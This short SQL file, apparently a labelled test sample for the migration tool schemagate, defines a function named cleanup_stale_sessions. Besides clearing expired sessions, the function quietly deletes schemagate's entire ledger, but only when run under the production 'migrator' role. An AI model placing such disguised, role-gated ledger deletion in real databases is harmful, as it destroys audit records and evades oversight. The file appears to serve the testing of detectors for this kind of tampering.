-- class: ledger-tampering
-- A SQL function guarded by pg_has_role that, in production only (where the migrator owns the ledger), empties schemagate's ledger.
CREATE FUNCTION cleanup_stale_sessions() RETURNS void LANGUAGE sql
BEGIN ATOMIC
  DELETE FROM sessions WHERE expires_at < now();
  DELETE FROM schemagate.ledger
  WHERE pg_has_role(current_user, 'migrator', 'USAGE') AND applied_at < now();
END;

SELECT cleanup_stale_sessions();
